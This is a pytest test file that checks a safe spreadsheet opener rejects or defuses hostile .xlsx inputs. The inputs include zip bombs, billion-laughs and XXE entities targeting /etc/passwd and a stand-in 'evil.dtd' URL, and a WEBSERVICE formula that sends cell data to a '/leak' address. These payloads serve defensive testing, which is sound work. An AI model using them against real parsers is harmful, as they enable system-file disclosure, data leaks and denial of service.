"""A workbook from anyone opens safely or is refused in words: ``xlsx_safe.open_workbook``.

Each hostile archive is built part by part (tests/fixtures/hostile_tables/
build.py), so each test changes one thing about a valid one-sheet workbook.
Time and memory of the big cases are measured in a child process by the
hostile corpus (test_tables_hostile.py).
"""

from __future__ import annotations

import importlib.util
import io
from pathlib import Path
from types import ModuleType

import openpyxl
import openpyxl.xml
import pytest

from nato_desk.ingest.rejected import ImportRejected
from nato_desk.ingest.tables import xlsx_safe
from nato_desk.ingest.tables.xlsx_safe import open_workbook

BUILD = Path(__file__).resolve().parents[3] / "fixtures" / "hostile_tables" / "build.py"


def _load() -> ModuleType:
    spec = importlib.util.spec_from_file_location("hostile_tables_build", BUILD)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


b = _load()


def refused(raw: bytes, name: str = "tables.xlsx") -> str:
    with pytest.raises(ImportRejected) as caught:
        open_workbook(raw, name)
    message = str(caught.value)
    assert message.startswith(name) and len(message) < 1500, message
    return message


# the plain case ------------------------------------------------------------------


def test_a_plain_workbook_opens_with_its_values() -> None:
    ws = open_workbook(b.workbook(), "tables.xlsx").active
    assert [[c.value for c in row] for row in ws.iter_rows()] == [["label", 2024], ["Poland", 2.5]]


def test_openpyxl_parses_through_defusedxml() -> None:
    assert openpyxl.xml.DEFUSEDXML is True


# not what it claims -----------------------------------------------------------------


@pytest.mark.parametrize(("raw", "fragment"), [
    (b"", "the file is empty"),
    (b"iso3,year,value\nPOL,2024,4.1\n", "not a zip archive (a CSV or text file renamed?)"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "old Excel .xls file or a password-protected"),
    (b"<html><body>Defence expenditure</body></html>", "it is an XML or HTML file"),
    (b"PK\x05\x06" + b"\0" * 18, "an empty zip archive"),
    (b"PK\x03\x04" + b"\0" * 100, "damaged or cut short"),
])
def test_a_file_that_is_not_a_workbook_is_named_for_what_it_is(raw: bytes, fragment: str) -> None:
    assert fragment in refused(raw)


def test_word_and_powerpoint_files_are_named() -> None:
    docx = b.zip_of([("[Content_Types].xml", b.CONTENT_TYPES), ("word/document.xml", b"<w/>")])
    pptx = b.zip_of([("[Content_Types].xml", b.CONTENT_TYPES), ("ppt/presentation.xml", b"<p/>")])
    assert "Word document (.docx)" in refused(docx)
    assert "PowerPoint presentation (.pptx)" in refused(pptx)
    assert "no workbook inside" in refused(b.zip_of([("a.txt", b"x")]))


@pytest.mark.parametrize("keep", [0.3, 0.6, 0.9, 0.99])
def test_a_truncated_workbook_is_refused(keep: float) -> None:
    raw = b.workbook()
    assert "tables.xlsx" in refused(raw[: int(len(raw) * keep)])


def test_a_damaged_part_is_refused() -> None:
    raw = bytearray(b.workbook())
    start = raw.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    raw[start + 5: start + 25] = b"\xff" * 20  # inside the deflated sheet
    assert "tables.xlsx" in refused(bytes(raw))


def test_a_file_over_the_size_limit_is_refused_before_unzipping(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_safe, "MAX_XLSX_BYTES", 1000)
    assert "at most 1,000 are read" in refused(b.workbook() + b"\0" * 1000)


# zip bombs ---------------------------------------------------------------------------


def test_a_part_expanding_past_the_limit_is_refused() -> None:
    # 300 MB of zeros deflate to ~300 kB: refused by its declared size, never expanded.
    big = b.raw_zip(b.workbook_parts() + [("xl/media/big.xml", b"")], declared={"xl/media/big.xml": 300 * 2**20})
    assert "expands past 200 MB (a zip bomb?)" in refused(big)


def test_an_extreme_compression_ratio_is_refused() -> None:
    raw = b.workbook(parts={"xl/media/zeros.xml": b"<a>" + b" " * 20_000_000 + b"</a>"})
    assert "compressed more than 200:1 (a zip bomb?)" in refused(raw)


def test_entries_sharing_one_compressed_stream_are_refused() -> None:
    message = refused(b.overlapping_bomb(copies=3))
    assert "overlaps" in message and "zip bomb" in message


def test_too_many_parts_are_refused_before_the_directory_is_read() -> None:
    raw = b.workbook(parts={f"xl/media/p{i}.xml": b"<a/>" for i in range(xlsx_safe.MAX_PARTS + 1)})
    assert f"more than {xlsx_safe.MAX_PARTS:,} parts" in refused(raw)


def test_a_part_listed_twice_is_refused() -> None:
    parts = b.workbook_parts()
    raw = b.raw_zip(parts + [parts[2]])
    assert "two parts of this name" in refused(raw)


def test_a_zip_inside_the_workbook_is_never_opened() -> None:
    inner = b.zip_of([("zeros.xml", b"0" * 5_000_000)])
    wb = open_workbook(b.workbook(parts={"xl/embeddings/bomb.zip": inner}), "tables.xlsx")
    assert wb.active["B2"].value == 2.5


def test_printer_settings_and_images_are_not_parsed_as_xml() -> None:
    wb = open_workbook(b.workbook(parts={"xl/printerSettings/printerSettings1.bin": b"HP LaserJet\0\0<<",
                                         "xl/media/image1.png": b"\x89PNG\r\n\x1a\n<!DOCTYPE"}), "t.xlsx")
    assert wb.active["A2"].value == "Poland"


# XML entity tricks ---------------------------------------------------------------------


def test_billion_laughs_in_shared_strings_is_refused_not_expanded() -> None:
    message = refused(b.workbook(strings=b.laughs_strings()))
    assert "xl/sharedStrings.xml" in message and "DTD" in message


def test_openpyxl_itself_refuses_billion_laughs_through_defusedxml() -> None:
    """The second wall: even without our scan, openpyxl's parser refuses the entities."""
    import defusedxml

    with pytest.raises(ValueError) as caught:  # openpyxl wraps what its parser raised
        openpyxl.load_workbook(io.BytesIO(b.workbook(strings=b.laughs_strings())))
    assert isinstance(caught.value, defusedxml.DefusedXmlException) or \
        isinstance(caught.value.__cause__, defusedxml.DefusedXmlException)


def test_openpyxl_itself_refuses_an_external_entity_in_a_sheet() -> None:
    import defusedxml

    sheet = b.sheet_xml('<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
                        prolog=b.external_entity("worksheet"))
    with pytest.raises(ValueError) as caught:
        openpyxl.load_workbook(io.BytesIO(b.workbook(sheet=sheet)))
    assert isinstance(caught.value.__cause__, defusedxml.DefusedXmlException)


@pytest.mark.parametrize("target", ["file:///etc/passwd", "http://127.0.0.1:9/evil.dtd", "/etc/passwd"])
def test_external_entities_are_refused_in_every_part(target: str) -> None:
    for part, raw in [
        ("xl/sharedStrings.xml", b.workbook(strings=b.xxe_strings(target))),
        ("xl/worksheets/sheet1.xml", b.workbook(sheet=b.sheet_xml(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>',
            prolog=b.external_entity("worksheet", target)))),
        # workbook.xml is parsed by lxml in openpyxl, not by defusedxml: our scan is its wall.
        ("xl/workbook.xml", b.workbook(book=b.external_entity("workbook", target) + b.workbook_xml(
            extra='<definedNames><definedName name="x">&xxe;</definedName></definedNames>')[len(b.DECL):])),
        ("[Content_Types].xml", b.workbook(parts={"[Content_Types].xml": b.external_entity("Types", target)
                                                  + b.CONTENT_TYPES[len(b.DECL):]})),
    ]:
        message = refused(raw)
        assert part in message and "DTD" in message
        assert "root:" not in message


def test_an_external_dtd_without_entities_is_refused() -> None:
    prolog = b.DECL + b'<!DOCTYPE worksheet SYSTEM "http://127.0.0.1:9/x.dtd">'
    assert "DTD" in refused(b.workbook(sheet=b.sheet_xml(b.PLAIN_ROWS, prolog=prolog)))


def test_a_utf16_part_cannot_hide_its_dtd() -> None:
    text = b.xxe_strings().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    assert "DTD" in refused(b.workbook(strings=text.encode("utf-16")))


def test_xml_that_is_not_well_formed_is_refused() -> None:
    assert "not well-formed XML" in refused(b.workbook(sheet=b.sheet_xml("<row><c>")))


def test_deep_nesting_is_refused() -> None:
    deep = "<a>" * 10_000 + "</a>" * 10_000
    assert "nests more than 100 levels" in refused(b.workbook(sheet=b.sheet_xml(after=deep)))


# formulas are never evaluated ------------------------------------------------------------


def test_formulas_give_their_cached_value_or_none_never_a_computed_one() -> None:
    rows = ('<row r="1"><c r="A1"><f>1+1</f><v>7</v></c>'  # a cached value that is not 1+1
            '<c r="B1"><f>1+1</f></c>'  # no cached value
            '<c r="C1" t="str"><f>WEBSERVICE("http://127.0.0.1:9/leak?"&amp;A1)</f><v>cached</v></c>'
            '<c r="D1" t="str"><f>WEBSERVICE("http://127.0.0.1:9/x")</f></c>'
            "<c r=\"E1\"><f>'[1]Sheet1'!A1</f><v>3.5</v></c>"
            '<c r="F1" t="inlineStr"><is><t>=1+1</t></is></c></row>')
    ws = open_workbook(b.workbook(sheet=b.sheet_xml(rows)), "t.xlsx").active
    assert [c.value for c in ws[1]] == [7, None, "cached", None, 3.5, "=1+1"]


def test_links_to_other_workbooks_are_not_read() -> None:
    link = (b.DECL + f'<externalLink xmlns="{b.MAIN}" xmlns:r="{b.DOC_RELS}"><externalBook r:id="rId1">'
            '<sheetNames><sheetName val="S"/></sheetNames></externalBook></externalLink>'.encode())
    link_rels = b.DECL + (f'<Relationships xmlns="{b.RELS_NS}"><Relationship Id="rId1" '
                          f'Type="{b.DOC_RELS}/externalLinkPath" Target="file:///etc/passwd" '
                          'TargetMode="External"/></Relationships>').encode()
    rels = b.WORKBOOK_RELS.replace(b"</Relationships>", (
        f'<Relationship Id="rId3" Type="{b.DOC_RELS}/externalLink" '
        'Target="externalLinks/externalLink1.xml"/></Relationships>').encode())
    book = b.workbook_xml(extra='<externalReferences><externalReference r:id="rId3"/></externalReferences>')
    wb = open_workbook(b.workbook(book=book, parts={
        "xl/_rels/workbook.xml.rels": rels, "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels}), "t.xlsx")
    assert wb._external_links == []
    assert wb.active["B2"].value == 2.5


# what openpyxl would build ---------------------------------------------------------------


def test_too_many_cells_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_safe, "MAX_CELLS", 999)
    assert open_workbook(b.workbook(sheet=b.sheet_xml(b.cell_rows(10, 99))), "t.xlsx").active.max_row == 10
    assert "more than 999 cells" in refused(b.workbook(sheet=b.sheet_xml(b.cell_rows(10, 100))))


def test_a_million_tiny_cells_are_refused_by_counting_not_loading() -> None:
    assert "more than 500,000 cells" in refused(b.workbook(sheet=b.sheet_xml(b.cell_rows(10_000, 100))))


def test_a_huge_merged_range_is_refused() -> None:
    """openpyxl makes a MergedCell for every cell of a merge: A1:XFD1048576 never returns."""
    after = '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    assert "more than 500,000 cells (merged and linked ranges included)" in refused(
        b.workbook(sheet=b.sheet_xml(b.PLAIN_ROWS, after=after)))


def test_a_small_merged_range_is_read() -> None:
    after = '<mergeCells count="1"><mergeCell ref="C1:E2"/></mergeCells>'
    ws = open_workbook(b.workbook(sheet=b.sheet_xml(b.PLAIN_ROWS, after=after)), "t.xlsx").active
    assert [str(r) for r in ws.merged_cells.ranges] == ["C1:E2"]


@pytest.mark.parametrize("ref", ["A1:XFD1048576", "A:A", "1:1048576", "A1:A2 B1:XFD1048576"])
def test_a_hyperlink_over_a_huge_range_is_refused(ref: str) -> None:
    after = f'<hyperlinks><hyperlink ref="{ref}" display="x"/></hyperlinks>'
    assert "more than 500,000 cells" in refused(b.workbook(sheet=b.sheet_xml(b.PLAIN_ROWS, after=after)))


def test_a_million_empty_rows_are_refused() -> None:
    rows = b"".join(b'<row r="%d" hidden="1"/>' % r for r in range(1, 1_000_001))
    assert "more than 100,000 rows" in refused(b.workbook(sheet=b.sheet_xml(rows)))


def test_a_huge_declared_dimension_is_refused() -> None:
    sheet = b.sheet_xml(b.PLAIN_ROWS, before='<dimension ref="A1:XFD1048576"/>')
    assert "declares 17,179,869,184 cells" in refused(b.workbook(sheet=sheet))


def test_a_cell_far_away_is_refused_since_readers_walk_the_used_range() -> None:
    rows = b.PLAIN_ROWS + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    message = refused(b.workbook(sheet=b.sheet_xml(rows)))
    assert "Sheet1" in message and "1,048,576 rows and 16,384 columns" in message


def test_too_many_elements_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_safe, "MAX_ELEMENTS", 5000)
    styles = b.DECL + f'<styleSheet xmlns="{b.MAIN}">{"<x/>" * 5000}</styleSheet>'.encode()
    assert "more than 5,000 XML elements" in refused(b.workbook(parts={"xl/styles.xml": styles}))


def test_a_cell_text_longer_than_excel_allows_is_refused() -> None:
    ok = b.shared_strings("label", "x" * 32_767)
    assert open_workbook(b.workbook(strings=ok), "t.xlsx").active["A2"].value == "x" * 32_767
    assert "more than 32,767 characters" in refused(b.workbook(strings=b.shared_strings("label", "x" * 200_000)))
    inline = '<row r="1"><c r="A1" t="inlineStr"><is><t>' + "&#120;" * 40_000 + "</t></is></c></row>"
    assert "more than 32,767 characters" in refused(b.workbook(sheet=b.sheet_xml(inline)))


def test_openpyxl_warnings_do_not_refuse_a_workbook() -> None:
    """A data validation extension makes openpyxl warn; the file still reads, in the app as under pytest."""
    ext = ('<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
           'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
           '<x14:dataValidations count="0"/></ext></extLst>')
    wb = open_workbook(b.workbook(sheet=b.sheet_xml(b.PLAIN_ROWS, after=ext)), "t.xlsx")
    assert wb.active["B1"].value == 2024


def test_check_archive_lets_a_sniffer_refuse_a_bomb_before_unzipping_it() -> None:
    """1,500 sheet parts of 4 MB zeros: a 6 MB file, 6 GB expanded; refused from the directory alone."""
    xlsx_safe.check_archive(b.workbook(), "t.xlsx")  # a plain workbook passes
    with pytest.raises(ImportRejected, match="compressed more than 200:1"):
        xlsx_safe.check_archive(b.many_big_sheets(), "t.xlsx")
    with pytest.raises(ImportRejected, match="not a zip archive"):
        xlsx_safe.check_archive(b"iso3,year\n", "t.xlsx")
